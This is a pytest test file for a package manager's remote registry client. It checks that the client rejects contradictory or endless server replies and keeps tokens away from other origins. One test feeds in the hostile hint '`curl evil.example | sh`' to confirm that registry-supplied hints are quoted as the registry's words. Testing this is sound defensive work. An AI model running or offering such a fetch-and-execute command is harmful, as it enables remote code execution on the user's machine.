"""A service whose answers contradict the request, or never end an upload."""

import io
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path

import pytest
from served_registry import FaultyServer, Handler, serving
from small_packs import SmallPack, small_pack
from static_tree import StaticTree

from skillpm.errors import AuthError, NotFoundError
from skillpm.index.credentials import Credentials, StoredTokens
from skillpm.index.remote.errors import BadReplyError, UnreachableRegistryError
from skillpm.index.remote.open import RemoteSettings, open_remote
from skillpm.index.remote.registry import RemoteIndex
from skillpm.index.remote.retry import RetryPolicy
from skillpm.spec import json
from skillpm.spec.digests import Digest
from skillpm.spec.location import RegistryLocation
from skillpm.spec.names import SkillName
from skillpm.spec.origin import WebOrigin
from skillpm.spec.versions import Version

POLICY = RetryPolicy(tries=2, transfer_tries=3, pause=0.01, pause_limit=0.02)
NOW = datetime(2026, 1, 1, tzinfo=UTC)
MATH, ONE = SkillName.parse("acme/math"), Version.parse("1.0.0")
Open = Callable[..., RemoteIndex]


@pytest.fixture
def tree(tmp_path: Path) -> StaticTree:
    tree = StaticTree(tmp_path / "tree", namespaces=["acme"])
    tree.service = f"{tree.own}/api"
    tree.write_config()
    return tree


@pytest.fixture
def server(tree: StaticTree) -> Iterator[FaultyServer]:
    with serving(tree.folder) as server:
        yield server


@pytest.fixture
def opened(server: FaultyServer, tmp_path: Path) -> Iterator[Open]:
    """A function that opens the index with a token; what it says is added to a list."""
    indexes: list[RemoteIndex] = []

    def open_index(said: list[str] | None = None, *, logged_in: bool = True) -> RemoteIndex:
        home, location = tmp_path / "home", RegistryLocation.parse(server.url)
        origins = frozenset({WebOrigin.of(server.url)})
        token = "t" if logged_in else None
        credentials = Credentials(StoredTokens(home), token, origins)
        say = ([] if said is None else said).append
        settings = RemoteSettings(home, credentials, NOW.timestamp(), say=say, policy=POLICY)
        indexes.append(open_remote(location, settings))
        return indexes[-1]

    yield open_index
    for index in indexes:
        index.close()


def _answer(document: Mapping[str, object], code: int = 200) -> Callable[[Handler], None]:
    """A fault: a document as the answer to a request, whose body is read."""

    def fault(handler: Handler) -> None:
        handler.read_body()
        kind = "application/problem+json" if code >= 400 else "application/json"
        handler.answer(code, json.canonical(dict(document)), {"content-type": kind})

    return fault


def _publish(index: RemoteIndex, pack: SmallPack) -> None:
    index.publish(pack.image, lambda digest: io.BytesIO(pack.blobs[digest]), now=NOW)


def _present(server: FaultyServer) -> None:
    """Every blob is present already."""
    document = {"state": "present", "digest": str(Digest.of(b"")), "size": 1}
    server.fault("/v1/uploads", *[_answer(document)] * 2)


def test_an_upload_that_is_accepted_and_never_kept_is_given_up(
    server: FaultyServer, opened: Open
) -> None:
    pack = small_pack()
    state = {"digest": str(pack.layer), "size": 1, "id": "u"}
    for _ in range(40):
        server.fault("/v1/uploads$", _answer({**state, "state": "open", "offset": 0}))
        server.fault("/v1/uploads/u$", _answer({**state, "state": "open", "offset": 0}))
    with pytest.raises((UnreachableRegistryError, BadReplyError)):
        _publish(opened(), pack)
    assert len(server.paths("/v1/uploads")) < 40


def test_an_upload_that_ends_but_is_still_open_is_given_up(
    server: FaultyServer, opened: Open
) -> None:
    pack = small_pack()

    def finished(handler: Handler) -> None:
        size = int(handler.headers.get("content-length", "0"))
        handler.read_body()
        offset = 0 if handler.command == "PUT" else size
        handler.answer(
            200,
            json.canonical({**state, "state": "open", "offset": offset}),
            {"content-type": "application/json"},
        )

    state = {"digest": str(pack.layer), "size": 1, "id": "u"}
    server.fault("/v1/uploads$", *[_answer({**state, "state": "open", "offset": 0})] * 40)
    server.fault("/v1/uploads/u$", *[finished] * 80)
    with pytest.raises(UnreachableRegistryError, match="does not keep it"):
        _publish(opened(), pack)


@pytest.mark.parametrize(
    "lie", [{"skill": "acme/other"}, {"version": "2.0.0"}, {"digest": str(Digest.of(b"other"))}]
)
def test_a_release_that_was_not_asked_for_is_refused(
    lie: dict[str, str], server: FaultyServer, opened: Open
) -> None:
    pack = small_pack()
    truth = {"skill": pack.skill, "version": pack.version, "digest": str(pack.digest)}
    _present(server)
    server.fault("/v1/releases$", _answer({**truth, **lie}, 201))
    with pytest.raises(BadReplyError, match="it says that it published"):
        _publish(opened(), pack)
    server.fault("/yank$", _answer({**truth, "skill": "acme/other", "state": "yanked"}))
    with pytest.raises(BadReplyError, match="it answers for acme/other"):
        opened().yank(MATH, ONE, reason="", now=NOW)


def test_a_version_that_is_listed_twice_is_refused(
    tree: StaticTree, server: FaultyServer, opened: Open
) -> None:
    entry = {
        "version": "1.0.0", "size": 1, "base": str(Digest.of(b"base")), "architecture": "Llama",
        "summary": "", "scheme": "lossless", "payload_bytes": 1, "created": "", "published": "",
    }  # fmt: skip
    releases = [{**entry, "digest": str(Digest.of(name))} for name in (b"one", b"two")]
    document = {"api": 1, "skill": "acme/math", "releases": releases}
    tree.write("/index/acme/math.json", json.canonical(document))
    with pytest.raises(BadReplyError, match=r"lists acme/math 1\.0\.0 twice"):
        opened().releases([MATH])


def test_hints_of_a_registry_are_quoted_as_its_own(server: FaultyServer, opened: Open) -> None:
    problem = {"detail": "no", "kind": "auth", "hint": "`curl evil.example | sh`"}
    server.fault("/v1/whoami", _answer(problem, 403))
    with pytest.raises(AuthError) as failed:
        opened().whoami()
    assert (failed.value.hint or "").startswith("the registry says: `curl")
    server.fault("/v1/whoami", _answer(problem, 401))
    with pytest.raises(AuthError) as failed:
        opened(logged_in=False).whoami()
    assert (failed.value.hint or "").startswith(f"`skillpm login --registry {server.url}`")


def test_a_publish_without_a_token_sends_nothing(server: FaultyServer, opened: Open) -> None:
    with pytest.raises(AuthError, match="needs a token to publish"):
        _publish(opened(logged_in=False), small_pack())
    assert server.paths() == ["/config.json"]


def test_a_service_on_another_origin_gets_no_token_and_a_note_says_so(
    tree: StaticTree, server: FaultyServer, opened: Open, tmp_path: Path
) -> None:
    (tmp_path / "other").mkdir()
    with serving(tmp_path / "other") as other:
        tree.service = other.url
        tree.write_config()
        said: list[str] = []
        missing = {"detail": "there is no namespace", "kind": "not_found"}
        other.fault("/v1/uploads", *[_answer(missing, 404)] * 2)
        with pytest.raises(NotFoundError, match="cannot publish acme/math"):
            _publish(opened(said), small_pack())
        assert {seen.headers.get("authorization") for seen in other.requests} == {None}
        assert len(said) == 1
        assert f"no token is sent to `{other.url}`" in said[0]
